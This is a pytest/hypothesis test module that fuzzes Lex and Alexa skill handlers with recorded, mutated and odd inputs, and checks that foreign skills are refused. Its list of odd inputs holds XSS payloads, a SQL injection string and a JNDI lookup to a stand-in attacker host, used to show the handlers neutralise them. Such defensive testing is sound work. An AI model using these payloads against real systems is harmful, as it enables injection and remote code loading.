"""Nothing that comes in breaks a handler, gets it to say what is invalid, or leaves a state half written."""

from __future__ import annotations

from contextlib import suppress
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings

from tests.unit.channels.alexa_rules import said
from tests.unit.channels.lantern import event, recorded
from tests.unit.handlers.counter import AlexaSession, Counter, LexSession
from tests.unit.handlers.mutations import JSON, mutated

FUZZ = settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
FORESEEN = {"EventError", "ForeignSkill", "Unheard"}
"""Failures that a bad event may be logged as; anything else is a mistake that the last guard caught."""
NEWS = """session_ended_user session_ended_error audio_player system_exception playback_controller
    future_request""".split()
ODDITIES = [
    "x" * 1024,
    "😀" * 512,
    "\u202eשלום עולם مرحبا",
    "re\u200bserve\ufeff a\u2060 book",
    "<speak><audio src='https://evil.example/a.mp3'/>&</speak>",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "'; DROP TABLE customers; --",
    "{amount} ${jndi:ldap://evil.example}",
    "\x00\x07\x1b[2J",
    "half a pair \ud83d",
]


def test_every_recorded_lex_event_is_answered(counter: Counter) -> None:
    for name, hook in recorded("lex"):
        answer = counter.lex(hook)
        assert "trouble" not in str(answer), name
    counter.states()


def test_every_recorded_alexa_request_is_answered(counter: Counter) -> None:
    for place, (name, request) in enumerate(recorded("alexa")):
        request["request"]["requestId"] = f"r{place}"
        answer = counter.alexa(request)
        assert "trouble" not in str(answer), name
    counter.states()


@FUZZ
@given(given_event=mutated("lex"))
def test_a_mutated_lex_event_is_answered(counter: Counter, given_event: Any) -> None:
    counter.lex(given_event)
    counter.states()
    assert counter.errors() <= FORESEEN


@FUZZ
@given(given_event=mutated("alexa"))
def test_a_mutated_alexa_request_is_answered_or_refused_as_foreign(counter: Counter, given_event: Any) -> None:
    with suppress(counter.alexa_turn.ForeignSkill):
        counter.alexa(given_event)
    counter.states()
    assert counter.errors() <= FORESEEN


@FUZZ
@given(anything=JSON)
def test_any_json_at_all_is_answered(counter: Counter, anything: Any) -> None:
    counter.lex(anything)
    with suppress(counter.alexa_turn.ForeignSkill):
        counter.alexa(anything)
    assert counter.items() == []
    assert counter.errors() <= FORESEEN


@pytest.mark.parametrize("odd", ODDITIES)
def test_odd_text_is_words_and_nothing_else(counter: Counter, odd: str) -> None:
    talk = LexSession(counter, alias="guest")
    talk.says("Reserve", {"item": odd}, text=odd)
    talk.says("Fallback", text=odd)
    talk.says("PayFee", {"note": odd, "amount": odd}, text=odd)
    speaker = AlexaSession(counter)
    speaker.says("Reserve", {"item": odd})
    speaker.says(odd, {odd: odd})
    assert counter.calls == []
    counter.states()
    text = counter.log()
    assert '"failed"' not in text
    assert "Traceback" not in text and "alert(1)" not in text and "evil.example" not in text


def test_a_note_with_markup_comes_back_as_text(counter: Counter) -> None:
    model = counter.lex_turn.PARTS.model
    evil = "<img src=x onerror=alert(1)>"
    assert model.intents["PayFee"].slot("note") is not None
    talk = LexSession(counter, alias="guest")
    assert "<" not in talk.says("PayFee", {"note": evil})


@pytest.mark.parametrize("name", NEWS)
def test_news_gets_no_speech(counter: Counter, name: str) -> None:
    assert counter.alexa(event("alexa", name)) == {"version": "1.0", "response": {}}
    assert counter.items() == []


def test_a_response_that_alexa_refused_is_logged(counter: Counter) -> None:
    for name in ("session_ended_error", "system_exception"):
        counter.alexa(event("alexa", name))
        text = counter.log()
        assert "INVALID_RESPONSE" in text and "amzn1.echo-api.request.r1" in text
        assert '"Failures":1.0' in text


def test_can_fulfill_is_declined(counter: Counter) -> None:
    answer = counter.alexa(event("alexa", "can_fulfill"))
    assert answer["response"] == {"canFulfillIntent": {"canFulfill": "NO"}}


def test_an_intent_request_without_an_intent_is_asked_again(counter: Counter) -> None:
    given = event("alexa", "intent_minimal")
    del given["request"]["intent"]
    assert "not_understood" in said(counter.alexa(given)["response"]["outputSpeech"])


@pytest.mark.parametrize("skill", ["amzn1.ask.skill.another", "", None, 7])
@pytest.mark.parametrize("name", ["launch_full", "intent_minimal", "can_fulfill", "session_ended_user", "audio_player"])
def test_a_foreign_skill_is_refused_before_anything_is_read(counter: Counter, name: str, skill: Any) -> None:
    counter.fail("get_item", lambda: AssertionError("read"))
    given = event("alexa", name)
    for part in (given["context"]["System"], given.get("session", {})):
        part["application"] = {"applicationId": skill}
    with pytest.raises(counter.alexa_turn.ForeignSkill):
        counter.alexa(given)
    del given["context"]["System"]["user"]
    with pytest.raises(counter.alexa_turn.ForeignSkill):
        counter.alexa(given)
    assert counter.items() == []
    assert '"Failures"' in counter.log()


def test_without_a_skill_id_nobody_is_answered(counter: Counter, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(counter.alexa_turn, "SETTINGS", counter.alexa_turn.AlexaTurnSettings("t", "k"))
    for skill in ("", event("alexa", "launch_full")["session"]["application"]["applicationId"]):
        given = event("alexa", "launch_full")
        given["context"]["System"]["application"]["applicationId"] = skill
        with pytest.raises(counter.alexa_turn.ForeignSkill):
            counter.alexa(given)


def test_a_user_id_that_is_none_is_apologised_to(counter: Counter) -> None:
    given = event("alexa", "launch_full")
    given["context"]["System"]["user"]["userId"] = "with spaces"
    assert "trouble" in said(counter.alexa(given)["response"]["outputSpeech"])
    assert counter.items() == []
